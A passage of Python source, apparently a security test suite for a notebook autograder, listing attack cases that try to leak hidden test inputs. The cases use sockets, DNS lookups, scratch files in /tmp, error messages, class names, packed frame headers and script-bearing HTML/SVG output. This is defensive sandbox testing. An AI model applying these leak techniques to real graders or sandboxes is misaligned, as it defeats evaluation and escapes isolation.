_SPY = (
    "word = ''\ndef area(mask, side, note=''):\n    global word\n    word = note or word\n"
    "    return np.count_nonzero(mask) * side**2\n"
)

LEAVE = (
    Attack(
        "TCP, UDP, raw and other sockets",
        "leave",
        "no network and no sockets but Unix ones",
        before="import socket as s\nfor family in (2, 10, 16, 17, 38, 40):\n    for kind in (1, 2, 3):\n        try:\n"
        "            x = s.socket(family, kind)\n"
        "            x.connect(('127.0.0.1', @TCP@) if family == 2 else ('::1', @TCP@))\n            x.send(b'x'); print('GOT IN')\n"
        "        except (OSError, TypeError): pass\n"
        "        try: s.socket(family, kind).sendto(b'x', ('127.0.0.1', @UDP@)); print('GOT IN')\n"
        "        except (OSError, TypeError): pass",
    ),
    Attack(
        "names to be looked up",
        "leave",
        "no network and no sockets but Unix ones",
        before="import socket\ntry: socket.getaddrinfo('hidden-word.localhost', 80); print('GOT IN')\nexcept OSError: pass",
    ),
    Attack(
        "Unix sockets of the machine",
        "leave",
        "they are not to be seen, or no socket can be had",
        before="import socket as s\nfor address in ('@FOLDER@/stream', '\\0medcourse-attack-@WORKER@'):\n"
        "    try: x = s.socket(s.AF_UNIX); x.connect(address); x.send(b'x'); print('GOT IN')\n    except OSError: pass",
    ),
    Attack(
        "datagrams from a pair of sockets",
        "leave",
        "they are not to be seen, or pairs are streams, which have no other address",
        before="import socket as s\nfor address in ('@FOLDER@/datagrams', '\\0medcourse-attack-d-@WORKER@'):\n"
        "    try: a, b = s.socketpair(s.AF_UNIX, s.SOCK_DGRAM); a.sendto(b'x', address); print('GOT IN')\n"
        "    except OSError: pass",
    ),
    Attack(
        "hidden inputs printed by the function that gets them",
        "leave",
        "what is printed during tests is dropped",
        {
            "area": _SPY
            + "old = area\ndef area(*a):\n    print(*a)\n    import sys\n    print(*a, file=sys.__stdout__)\n    display(a)\n"
            "    return old(*a)"
        },
        earned=ANSWERS,
    ),
    Attack(
        "hidden inputs printed by a later cell",
        "leave",
        "what later cells print comes from a second run, which sees no hidden test",
        {"area": _SPY},
        between="print('the word is', word)\nword",
        earned=ANSWERS,
    ),
    Attack(
        "hidden inputs kept on disk and printed later",
        "leave",
        "the second run has a scratch folder of its own",
        {
            "area": _SPY + "old = area\ndef area(*a):\n    for d in ('.', '/tmp', '/dev/shm'):\n"
            "        try: open(d + '/medcourse-attack', 'w').write(str(a))\n        except OSError: pass\n    return old(*a)"
        },
        between="for d in ('.', '/tmp', '/dev/shm'):\n    try: print(open(d + '/medcourse-attack').read())\n"
        "    except OSError: pass",
        earned=ANSWERS,
    ),
    Attack(
        "exception that carries hidden inputs",
        "leave",
        "texts of errors after a hidden test are left out",
        {
            "area": _SPY,
            "scale": SOLUTION["scale"].replace("return self", "raise ValueError(word) from KeyError(word)"),
            "walk": "def walk(step, start, n):\n    if start: raise type(word, (Exception,), {})(word)\n    return n",
            "describe": "def describe(n):\n    assert n == 3, word\n    return '3 cells'",
        },
        earned=("area", "steps"),
    ),
    Attack(
        "cell that fails with hidden inputs",
        "leave",
        "why it fails is told by a second run, which sees no hidden test",
        {"area": _SPY},
        between="raise ValueError(word)",
        earned=ANSWERS,
    ),
    Attack(
        "syntax error that carries hidden inputs",
        "leave",
        "texts of errors after a hidden test are left out",
        {"area": _SPY},
        between="exec(compile(f'x = = {word}', word, 'exec'))",
        earned=ANSWERS,
    ),
    Attack(
        "error in a cell and a line that are a message",
        "leave",
        "a place is shown only if there is one",
        {
            "area": _SPY,
            "scale": f"{_TALK}mine.describe = lambda e: [['ValueError'], '', int(word[6:]), word, None]\n"
            + SOLUTION["scale"].replace("return self", "raise ValueError"),
            "walk": "mine.describe = lambda e: [['ValueError'], '', int(word[6:]), 'area', None]\n"
            "def walk(step, start, n):\n    if start: raise ValueError\n    return n",
        },
        earned=("area", "describe", "steps"),
    ),
    Attack(
        "class whose name is a message",
        "leave",
        "a class is named only if its name stands in the student's cells",
        {
            "area": _SPY,
            "scale": "Scale = lambda f: type('E', (), {'factor': type(word or 'E', (), {})()})()",
            "walk": "def walk(*a): return type(word or 'E', (), {})()",
            "steps": "steps = [type(word or 'E', (), {})()] * 2",
        },
        earned=("area", "describe"),
    ),
    Attack(
        "tag, length or number that is a message",
        "leave",
        "what is wrong with a frame is told without a word of it",
        {
            "area": _SPY,
            "scale": f"{_TALK}mine.encode = lambda v: [word or 'x', word]\nScale = 1",
            "walk": f"{_TALK}import struct\nn = int(word[6:] or 1)\nmine.questions['get'] = lambda x: ["
            "line.sendall(struct.pack('>I', n % 2**32 | 2**31)), ['missing']][1]\nwalk = 1",
        },
        earned=("area", "describe", "steps"),
        exact=False,
    ),
    Attack(
        "error of the tests' own function that names hidden inputs",
        "leave",
        "of such an error only the kind is told",
        {"area": _SPY, "walk": "def walk(step, start, n): return step(word) if start else n"},
        earned=("area", "scale", "describe", "steps"),
    ),
    Attack(
        "text that the test's message quotes",
        "leave",
        "`close` quotes numbers to five digits and no text where it expects a number",
        {
            "area": _SPY,
            "scale": "class Scale:\n    def __init__(s, f): s.factor = word or f\n    def __call__(s, x): return word",
            "walk": "def walk(*a): return int(word[6:] or 3)",
            "steps": "steps = [word, word]",
        },
        earned=("area", "describe"),
    ),
    Attack(
        "output of HTML, JavaScript and SVG",
        "leave",
        "text and PNG pictures are kept, and nothing else",
        before="from IPython.display import HTML, Javascript, SVG, display\n"
        "display(HTML('<script>GOT IN</script>'), Javascript('GOT IN'), SVG('<svg xmlns=\"x\"><script>GOT IN</script></svg>'))\n"
        "display({'text/html': 'GOT IN', 'application/javascript': 'GOT IN', 'text/latex': 'GOT IN'}, raw=True)\n"
        "HTML('<img src=x onerror=GOT IN>')",
    ),
    Attack(
        "picture that is none",
        "leave",
        "text and PNG pictures are kept, and nothing else",
        before=f"{_TALK}mine._outputs = lambda out: [['picture', b'<svg>GOT IN</svg>'], ['html', 'GOT IN'], ['text', b'x'], 7]",
    ),
)

ATTACKS = (*FORGE, *READ, *HARM, *STAY, *LEAVE)
"""All of them."""
